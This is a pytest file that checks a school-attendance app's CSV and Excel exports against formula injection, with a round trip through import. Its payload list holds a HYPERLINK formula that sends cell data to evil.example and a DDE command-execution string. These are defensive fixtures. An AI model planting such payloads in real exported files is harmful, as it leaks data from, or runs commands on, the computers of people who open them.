"""Issue 16, finding 1: stored text that starts like a formula (=, +, -, @, tab, CR) never becomes one in a file the
app writes (OWASP CSV injection). Excel cells are written as text; CSV cells get a leading apostrophe, which the
import takes off again, so export followed by import gives back the same text."""
import csv
import datetime as dt
import io
import zipfile

import pandas as pd
from openpyxl import load_workbook
from sqlmodel import Session, select

from narvaro import cli
from narvaro.core import db
from narvaro.core.models import Case, Meeting, School, ServiceNote
from narvaro.dataio import exporter, importer, report_files, sheets
from narvaro.reporting.indicators import Period
from narvaro.reporting.tables import Report, Table

PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"klicka")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "'=redan citerad", "''@två"]


def _store(engine):
    with db.session_scope(engine) as s:
        school = School(name=PAYLOADS[0], school_form="grundskola", provider="kommunal")
        s.add(school)
        s.flush()
        for i, text in enumerate(PAYLOADS):
            case = Case(number=f"F-{i}", pupil_code=f"P{i}", received_on=dt.date(2024, 1, 10), school_form="grundskola",
                        provider="kommunal", school_id=school.id, school_year=text[:10])
            s.add(case)
            s.flush()
            s.add(ServiceNote(case_id=case.id, written_on=dt.date(2024, 2, 1), author="k", text=text))
            s.add(Meeting(case_id=case.id, kind="uppföljningsmöte", held_on=dt.date(2024, 2, 2), situation=text,
                          created_by="k"))


def _risky(value) -> bool:
    return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_xlsx_export_has_no_formulas_and_keeps_the_text(engine, frozen_clock):
    _store(engine)
    with Session(engine) as s:
        data, _, _ = exporter.export_bytes(s, "xlsx", with_notes=True)
    wb = load_workbook(io.BytesIO(data))  # not data_only: a formula would show as data_type "f"
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert set(PAYLOADS) <= set(texts)  # the notes and meeting texts, unchanged


def test_csv_export_prefixes_formula_text_and_import_gives_it_back(engine, tmp_path, frozen_clock):
    _store(engine)
    with Session(engine) as s:
        zipped, _, _ = exporter.export_bytes(s, "csv", with_notes=True)
        data, name, _ = exporter.export_bytes(s, "csv")
    cells = []
    with zipfile.ZipFile(io.BytesIO(zipped)) as zf:
        for member in zf.namelist():
            cells += [c for row in csv.reader(io.StringIO(zf.read(member).decode("utf-8-sig")), delimiter=";")
                      for c in row]
    assert not [c for c in cells if _risky(c)]
    assert "'" + PAYLOADS[0] in cells and "'-2+3" in cells and "''=redan citerad" in cells

    fresh = db.make_engine(f"sqlite:///{tmp_path / 'fresh.sqlite3'}")
    db.migrate(fresh)
    with db.session_scope(fresh) as s:
        report = importer.import_file(s, data, name, "test")
    assert report.ok, report.lines()
    with Session(fresh) as s:
        assert s.exec(select(School.name)).all() == [PAYLOADS[0]]
        years = sorted(s.exec(select(Case.school_year)).all())
    fresh.dispose()
    assert years == sorted(p[:10].strip() for p in PAYLOADS)


def test_cli_export_files_are_neutralised(db_url, tmp_path, frozen_clock):
    engine = db.make_engine(db_url)
    _store(engine)
    engine.dispose()
    assert cli.main(["--database-url", db_url, "export", "--with-notes", "--format", "csv",
                     str(tmp_path / "ut.csv")]) == 0
    for path in tmp_path.glob("ut*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=";"))
        assert not [c for row in rows for c in row if _risky(c)], path.name
    assert cli.main(["--database-url", db_url, "export", "--with-notes", str(tmp_path / "ut.xlsx")]) == 0
    wb = load_workbook(tmp_path / "ut.xlsx")
    assert not [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]


def _report():
    df = pd.DataFrame({"Insats": PAYLOADS, "Antal": [-1, 2, 3, 4, 5, 6, 7], "Andel": [-0.5] * 7})
    table = Table("t", "Egna insatser", df)
    return table, Report(Period.year(2024), (2022, 2024), False, [table])


def test_indicator_downloads_and_yearly_report_are_neutralised():
    table, report = _report()
    rows = list(csv.reader(io.StringIO(report_files.table_csv(table).decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + p if _risky(p) or p.startswith("'") else p for p in PAYLOADS]
    assert rows[1][1] == "-1" and rows[1][2] == "-0,50"  # numbers stay numbers
    for data in (report_files.table_xlsx(table), report_files.yearly_report_xlsx(report)):
        wb = load_workbook(io.BytesIO(data))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]
        assert set(PAYLOADS) <= {c.value for c in cells}


def test_quoting_is_undone_exactly_by_the_import():
    for text in PAYLOADS + ["", "'", "''", "vanlig text", "'citat utan formel", "-"]:
        assert sheets.csv_unquote(sheets.csv_text(text)) == text
        assert not _risky(sheets.csv_text(text))
    assert sheets.csv_value(-3) == -3 and sheets.csv_value(-0.5) == "-0,5"  # numbers are not text
